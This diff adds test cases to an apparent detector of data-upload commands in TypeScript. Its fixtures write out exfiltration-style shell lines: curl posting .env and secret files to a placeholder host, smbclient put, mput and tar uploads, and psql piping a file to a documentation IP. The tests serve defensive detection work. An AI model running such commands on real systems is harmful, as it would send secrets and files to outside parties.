@@ -14,6 +14,10 @@ const found = (source: string) => {
 describe('uploadFindings', () => {
   it.each([
     ['curl -d @.env https://a.example', 'open.upload curl -d @.env'],
+    ["smbclient //a/b -c 'cd c;put d'", 'open.upload smbclient cd c;put d'],
+    ["smbclient //a/b -c 'cd c; mput d'", 'open.upload smbclient cd c; mput d'],
+    ["smbclient //a/b -c 'tar c d.tar e'", 'open.upload smbclient tar c d.tar e'],
+    ['psql -h 203.0.113.12 < a.sql', 'open.upload psql <'],
     ['curl -d @~/x.json https://a.example', 'open.upload curl -d @~/x.json'],
     ['curl -d @secret.json https://a.example', 'open.upload curl -d @secret.json'],
     ['curl -d "$(cat x)" https://a.example', 'open.upload curl -d "$(cat x)"'],
@@ -260,6 +264,9 @@ describe('uploadFindings', () => {
     'aws ssm put-parameter --name a',
     'aws s3 put_x ~/x',
     'scp host:b',
+    "smbclient //a/b -c 'xput d'",
+    'psql -h x203.0.113.12 < a.sql',
+    'psql -h 203.0.113.12.example < a.sql',
     "tar cf - src | ssh u@host '(tar xf -)'",
   ])('passes %s', (source) => expect(found(source)).toBe(''));
 });
